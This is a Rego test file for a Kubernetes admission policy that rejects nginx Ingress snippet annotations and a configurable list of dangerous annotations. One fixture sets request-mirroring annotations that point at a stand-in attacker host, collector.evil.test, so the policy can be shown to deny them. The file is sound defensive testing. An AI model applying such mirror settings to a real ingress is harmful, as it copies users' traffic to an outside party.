package ingress.no_snippet_annotations_test

import data.ingress.no_snippet_annotations

request(operation, annotations) := {"request": {
	"uid": "1",
	"kind": {"group": "networking.k8s.io", "version": "v1", "kind": "Ingress"},
	"name": "web",
	"namespace": "demo",
	"operation": operation,
	"object": {
		"apiVersion": "networking.k8s.io/v1",
		"kind": "Ingress",
		"metadata": {"name": "web", "namespace": "demo", "annotations": annotations},
		"spec": {"rules": [{"host": "a.example.com"}]},
	},
}}

test_harmless_annotations_pass if {
	a := {
		"nginx.ingress.kubernetes.io/force-ssl-redirect": "true",
		"nginx.ingress.kubernetes.io/proxy-body-size": "8m",
		"snippet": "not a suffix",
		"example.com/snippet-owner": "x",
	}
	count(no_snippet_annotations.deny) == 0 with input as request("CREATE", a)
}

test_no_annotations_pass if {
	count(no_snippet_annotations.deny) == 0 with input as request("CREATE", null)
}

test_configuration_snippet_denied if {
	denies := no_snippet_annotations.deny with input as request("CREATE", {"nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers \"X: y\";"})
	denies == {`Ingress demo/web: annotation "nginx.ingress.kubernetes.io/configuration-snippet" injects raw proxy configuration into the shared ingress controller; remove it and ask the platform team to provide the behaviour through controller configuration`}
}

test_every_snippet_reported if {
	a := {
		"nginx.ingress.kubernetes.io/server-snippet": "x",
		"nginx.ingress.kubernetes.io/auth-snippet": "x",
		"nginx.org/location-snippets": "x",
		"Example.io/Stream-Snippet": "x",
	}
	count(no_snippet_annotations.deny) == 4 with input as request("CREATE", a)
}

test_default_dangerous_denied if {
	a := {
		"nginx.ingress.kubernetes.io/auth-tls-pass-certificate-to-upstream": "true",
		"nginx.ingress.kubernetes.io/mirror-target": "https://collector.evil.test$request_uri",
		"nginx.ingress.kubernetes.io/mirror-host": "collector.evil.test",
	}
	denies := no_snippet_annotations.deny with input as request("CREATE", a)
	count(denies) == 3
	some m in denies
	m == `Ingress demo/web: annotation "nginx.ingress.kubernetes.io/mirror-host" is on the dangerous-annotation list (apiguard.config.ingress.dangerousAnnotations); remove it, or ask the platform team for an exemption`
}

test_dangerous_key_case_ignored if {
	a := {"NGINX.ingress.kubernetes.io/Mirror-Target": "x"}
	count(no_snippet_annotations.deny) == 1 with input as request("CREATE", a)
}

test_configured_list_replaces_default if {
	a := {
		"nginx.ingress.kubernetes.io/mirror-target": "x",
		"nginx.ingress.kubernetes.io/permanent-redirect": "https://a.example.com",
	}
	denies := no_snippet_annotations.deny
		with input as request("CREATE", a)
		with data.apiguard.config as {"ingress": {"dangerousAnnotations": ["nginx.ingress.kubernetes.io/Permanent-Redirect", 3]}}
	count(denies) == 1
	some m in denies
	contains(m, `"nginx.ingress.kubernetes.io/permanent-redirect"`)
}

test_empty_list_still_denies_snippets if {
	a := {"nginx.ingress.kubernetes.io/mirror-target": "x", "nginx.ingress.kubernetes.io/server-snippet": "x"}
	denies := no_snippet_annotations.deny
		with input as request("CREATE", a)
		with data.apiguard.config as {"ingress": {"dangerousAnnotations": []}}
	count(denies) == 1
	some m in denies
	contains(m, "server-snippet")
}

test_malformed_list_uses_default if {
	a := {"nginx.ingress.kubernetes.io/mirror-target": "x"}
	count(no_snippet_annotations.deny) == 1
		with input as request("CREATE", a)
		with data.apiguard.config as {"ingress": {"dangerousAnnotations": "nginx.ingress.kubernetes.io/x"}}
}

test_snippet_on_list_reported_once if {
	a := {"nginx.ingress.kubernetes.io/server-snippet": "x"}
	count(no_snippet_annotations.deny) == 1
		with input as request("CREATE", a)
		with data.apiguard.config as {"ingress": {"dangerousAnnotations": ["nginx.ingress.kubernetes.io/server-snippet"]}}
}

test_update_and_audit_judged if {
	a := {"nginx.ingress.kubernetes.io/server-snippet": "x"}
	count(no_snippet_annotations.deny) == 1 with input as request("UPDATE", a)
	count(no_snippet_annotations.deny) == 1 with input as request("AUDIT", a)
}

test_delete_not_denied if {
	req := {"request": {
		"kind": {"group": "networking.k8s.io", "version": "v1", "kind": "Ingress"},
		"name": "web",
		"namespace": "demo",
		"operation": "DELETE",
		"object": null,
		"oldObject": request("CREATE", {"nginx.ingress.kubernetes.io/server-snippet": "x"}).request.object,
	}}
	count(no_snippet_annotations.deny) == 0 with input as req
}

test_other_kind_ignored if {
	req := json.patch(request("CREATE", {"nginx.ingress.kubernetes.io/server-snippet": "x"}), [{
		"op": "replace",
		"path": "/request/kind",
		"value": {"group": "", "version": "v1", "kind": "Service"},
	}])
	count(no_snippet_annotations.deny) == 0 with input as req
}
